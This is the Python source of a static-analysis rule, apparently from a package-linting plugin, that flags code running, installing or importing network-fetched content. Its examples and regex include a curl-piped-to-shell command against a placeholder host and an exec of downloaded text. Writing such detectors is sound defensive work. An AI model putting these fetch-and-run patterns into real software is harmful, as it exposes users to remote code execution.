"""Running what was fetched a moment before."""

from __future__ import annotations

import re
from collections.abc import Iterator

from theodore_plugin.facts import model as m
from theodore_plugin.finding import Confidence, Example, Finding, Location, Rule, Severity, Silencer
from theodore_plugin.inference.model import ResolvedCall
from theodore_plugin.inference.values import HOLE
from theodore_plugin.rules.code.flows import code_arguments, made_by
from theodore_plugin.rules.context import RuleContext, report
from theodore_sdk.info import PermissionType

INSTALLERS = re.compile(r"^(?:.*/)?(?:pip[0-9.]*|pipx|uv|conda|npm|easy_install)$")
INSTALL = re.compile(r"\b(?:pip[0-9.]*|uv pip|conda|npm|easy_install)\s+(?:-\S+\s+)*(?:install|add)\b")
PIPED = re.compile(
    r"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:ba|z)?sh\s+<\(\s*(?:curl|wget)\b"
)
PIP_CALLS = (
    "ensurepip.bootstrap",
    "pip._internal.cli.main.main",
    "pip._internal.main",
    "pip.main",
    "setuptools.command.easy_install.main",
)
SAVERS = ("urllib.request.urlretrieve", "wget.download")
"""Calls that put what they fetch into a file: the second argument, and the result."""

RULE = Rule(
    name="download-and-execute",
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    silencer=Silencer.NOBODY,
    summary="What comes from the network is run, imported or installed.",
    why="Neither the check nor the signature says anything about code that arrives after installation.",
    remedy="Ship it in the wheel, or declare it as a dependency.",
    bad=(
        Example("import requests\n\n\ndef run(url):\n    exec(requests.get(url, timeout=9).text)\n", "run"),
        Example(
            "import subprocess\nimport sys\n\n\ndef need(name):\n"
            "    subprocess.run([sys.executable, '-m', 'pip', 'install', name])\n",
            "installed",
        ),
        Example("import os\n\n\ndef run():\n    os.system('curl https://x.example/i.sh | sh')\n", "piped into a shell"),
    ),
    good=(
        Example("import requests\n\n\ndef read(url):\n    return requests.get(url, timeout=9).json()\n", "data"),
        Example("import subprocess\n\n\ndef run():\n    subprocess.run(['git', 'fetch'])\n", "fetched by git, not run"),
    ),
)


def check(context: RuleContext) -> Iterator[Finding]:
    """Follow code back to the network, files back to downloads, and look at commands that install."""
    seen: set[Location] = set()
    for location, what in [*_run(context), *_installed(context), *_saved(context)]:
        if location not in seen:
            seen.add(location)
            yield report(RULE, location, what)


def _run(context: RuleContext) -> Iterator[tuple[Location, str]]:
    network = _network_names(context)
    for call, name, origins in code_arguments(context.inference):
        source = made_by(origins, network)
        if source and name != "marshal.loads":
            yield call.location, f"{name.removeprefix('builtins.')} runs what {source} fetches"


def _network_names(context: RuleContext) -> tuple[str, ...]:
    """Return the names used in this project that reach the network."""
    names = {name for call in context.inference.calls for name in call.callees}
    return tuple(sorted(name for name in names if _reaches(context, name, PermissionType.NETWORK)))


def _reaches(context: RuleContext, name: str, kind: PermissionType) -> bool:
    return any(effect.permission is kind for effect in context.capabilities.of_call(name))


def _installed(context: RuleContext) -> Iterator[tuple[Location, str]]:
    for call, name in context.inference.calls_of(*PIP_CALLS):
        yield call.location, f"{name} installs packages at run time"
    for call in context.inference.calls:
        if not any(_reaches(context, name, PermissionType.SUBPROCESS) for name in call.callees):
            continue
        words = _words(call)
        if any(INSTALL.search(text) for text in words) or _is_install(words):
            yield call.location, "packages are installed at run time"
        elif any(PIPED.search(text) for text in words):
            yield call.location, "what is downloaded is piped into a shell"


def _words(call: ResolvedCall) -> list[str]:
    """Return the strings a command is made of: those of its arguments, and those written out in a list."""
    written = [
        node.value for argument in call.node.arguments for node in m.walk(argument) if isinstance(node, m.Constant)
    ]
    return [*(text for texts in call.texts for text in texts), *(text for text in written if isinstance(text, str))]


def _is_install(words: list[str]) -> bool:
    return "install" in words and any(INSTALLERS.match(word) for word in words)


def _saved(context: RuleContext) -> Iterator[tuple[Location, str]]:
    """Files that are downloaded, and then run, made executable or imported under the same name."""
    files = {text: call for call, _name in context.inference.calls_of(*SAVERS) for text in _saved_as(call)}
    for call in context.inference.calls:
        if not files or not (_runs(context, call) or "os.chmod" in call.callees):
            continue
        for text in _words(call):
            if text in files and call is not files[text]:
                yield call.location, f"{text} is downloaded and run"
    for item in context.inference.permissions:
        if item.permission is PermissionType.SUBPROCESS and item.target in files:
            yield item.location, f"{item.target} is downloaded and run"


def _saved_as(call: ResolvedCall) -> tuple[str, ...]:
    texts = call.texts[1] if len(call.texts) > 1 else ()
    return tuple(text for text in texts if text != HOLE)


def _runs(context: RuleContext, call: ResolvedCall) -> bool:
    kinds = (PermissionType.SUBPROCESS, PermissionType.NATIVE, PermissionType.DYNAMIC_CODE)
    return any(_reaches(context, name, kind) for name in call.callees for kind in kinds)
